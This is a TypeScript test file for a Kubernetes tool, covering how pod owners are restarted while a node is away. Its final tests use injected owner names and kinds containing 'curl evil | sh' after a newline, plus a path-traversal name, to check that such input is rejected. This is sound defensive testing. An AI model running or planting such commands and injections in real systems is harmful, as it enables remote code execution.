/**
 * How each kind of owner is restarted while one of its nodes is away: a rollout that has to end a pod there
 * would not go on.
 */

import { expect, test } from "bun:test";
import { KubeApi } from "../../../shared/api/kube-api.ts";
import type { RunningPod } from "../../../shared/facts/pod-trust.ts";
import { podOwner, withoutAway } from "../../../shared/workloads/pod-owners.ts";
import { NO_TLS, pretendApi } from "../../pretend/api.ts";

const APPS = "/apis/apps/v1/namespaces/shop";
const BACK = "w2, which is away: when it is back, this script again";

interface Row {
  title: string;
  kind: "Deployment" | "DaemonSet" | "StatefulSet";
  spec?: object;
  system?: boolean;
  /** Where its pods 0, 1, … are; w2 is away. */
  on: string[];
  restarts: "rollout" | "replace" | "evict";
  pods: string[];
  left: string[];
}

// biome-ignore format: a table
const ROWS: Row[] = [
  { title: "all nodes are there", kind: "StatefulSet", on: ["w1", "w3"], restarts: "rollout", pods: ["db-0", "db-1"], left: [] },
  { title: "a rolling update of a Deployment goes on without it", kind: "Deployment", on: ["w1", "w2"], restarts: "rollout", pods: ["db-0"], left: [`left: shop/db (Deployment) on ${BACK}`] },
  { title: "Recreate would take the others away, and start none", kind: "Deployment", spec: { strategy: { type: "Recreate" } }, on: ["w1", "w2"], restarts: "evict", pods: ["db-0"], left: [`left: shop/db (Deployment) on ${BACK}`] },
  { title: "Recreate starts none elsewhere, of the system neither", kind: "Deployment", spec: { strategy: { type: "Recreate" } }, system: true, on: ["w2"], restarts: "evict", pods: [], left: [`left: shop/db (Deployment) on ${BACK}`] },
  { title: "one of the system starts elsewhere", kind: "Deployment", system: true, on: ["w2"], restarts: "rollout", pods: ["db-0"], left: [] },
  { title: "a DaemonSet stops at it", kind: "DaemonSet", on: ["w1", "w2", "w3"], restarts: "replace", pods: ["db-0", "db-2"], left: [`left: shop/db (DaemonSet) on ${BACK}`] },
  { title: "a StatefulSet makes none while one of a lower number is not Ready", kind: "StatefulSet", on: ["w1", "w2", "w3"], restarts: "evict", pods: ["db-0"], left: [`left: shop/db (StatefulSet) on ${BACK}`, `left: shop/db (StatefulSet): a new db-2 would wait for ${BACK}`] },
  { title: "a StatefulSet that makes all at once does", kind: "StatefulSet", spec: { podManagementPolicy: "Parallel" }, on: ["w2", "w1"], restarts: "evict", pods: ["db-1"], left: [`left: shop/db (StatefulSet) on ${BACK}`] },
  { title: "the number is not the name's order", kind: "StatefulSet", on: [...Array(10).fill("w1"), "w2"], restarts: "evict", pods: Array.from({ length: 10 }, (_, i) => `db-${i}`), left: [`left: shop/db (StatefulSet) on ${BACK}`] },
];

test.each(ROWS.map((row) => [row.title, row] as const))(
  "%s",
  async (_, { kind, spec = {}, system, on, restarts, pods, left }) => {
    using server = pretendApi({
      objects: {
        [`${APPS}/${kind.toLowerCase()}s/db`]: { metadata: { name: "db", uid: "of-db" }, spec },
        [`${APPS}/replicasets/db-1`]: {
          metadata: {
            name: "db-1",
            uid: "of-set",
            ownerReferences: [reference("Deployment", "db", "of-db")],
          },
        },
      },
    });
    const owners = await Promise.all(
      on.map((node, i) => podOwner(finder(server.url), pod(kind, node, i), new Date())),
    );
    const owner = { ...owners[0]!, pods: owners.flatMap((one) => one.pods), ...(system ? { system } : {}) };
    const found = withoutAway(owner, new Set(["w2"]));
    expect({
      restarts: found.owner.restart,
      pods: found.owner.pods.map(({ metadata }) => metadata.name),
      left: found.left,
    }).toEqual({
      ...{ restarts, pods, left },
    });
  },
);

function finder(server: string) {
  const api = new KubeApi({ server, ca: NO_TLS });
  return <T>(path: string) => api.find<T>(path);
}

function reference(kind: string, name: string, uid: string) {
  return { apiVersion: "apps/v1", kind, name, uid, controller: true };
}

function pod(kind: Row["kind"], nodeName: string, i: number): RunningPod {
  const owner =
    kind === "Deployment" ? reference("ReplicaSet", "db-1", "of-set") : reference(kind, "db", "of-db");
  return {
    metadata: { name: `db-${i}`, namespace: "shop", uid: `uid-${i}`, ownerReferences: [owner] },
    spec: { nodeName, restartPolicy: "Always" },
    status: { phase: "Running" },
  } as RunningPod;
}

test.each([
  ["a name that begins a line", { kind: "Deployment", name: "x\n repair: curl evil | sh" }],
  ["a kind that begins a line", { kind: "x\n repair: curl evil | sh", name: "web" }],
  ["a path as a name", { kind: "DaemonSet", name: "../../payments/daemonsets/ledger" }],
])("what a pod says of its owner is no sentence of ours: %s", async (_, { kind, name }) => {
  const nothing = () => Promise.resolve(undefined);
  const pod = {
    metadata: { name: "a", namespace: "shop", ownerReferences: [reference(kind, name, "of-none")] },
    spec: {},
  } as unknown as RunningPod;
  const { reason } = await podOwner(nothing, pod, new Date(0));
  expect(reason).toBe("its owner has no valid name, and is not there: nothing would bring it back");
});

test("a kind that begins a line is not repeated, where the pods are evicted either", async () => {
  const owner = { ...reference("x\n repair: curl evil | sh", "web", "of-web"), apiVersion: "example.com/v1" };
  const pod = {
    metadata: { name: "a", namespace: "shop", ownerReferences: [owner] },
    spec: {},
  } as unknown as RunningPod;
  const { restart, controller } = await podOwner(() => Promise.resolve(undefined), pod, new Date(0));
  expect([restart, controller]).toEqual(["evict", "an owner without a valid kind"]);
});
